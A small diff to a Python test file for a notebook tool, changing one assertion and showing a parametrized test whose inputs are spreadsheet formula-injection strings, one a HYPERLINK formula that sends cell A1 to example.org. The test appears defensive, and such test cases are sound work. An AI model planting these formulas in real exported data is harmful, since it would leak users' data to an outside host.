@@ -333,7 +333,7 @@ def test_a_cell_that_waits_for_a_processor_has_the_seconds_of_one_that_does_not(
 
 def test_a_remark_on_what_a_cell_said_is_one_line() -> None:
     failed = nbformat.v4.new_output("error", ename="ValueError", evalue="\n" * 300 + "x", traceback=[])
-    assert remarks.error_of(nbformat.v4.new_code_cell("", outputs=[failed])) == "ValueError: x"
+    assert str(remarks.error_of(nbformat.v4.new_code_cell("", outputs=[failed]))) == "ValueError: x"
 
 
 @pytest.mark.parametrize("text", ['a.txt;=HYPERLINK("http://example.org?"&A1)', "a; +1", "x\t=1", "=1;-1", "a;\uff1d1"])
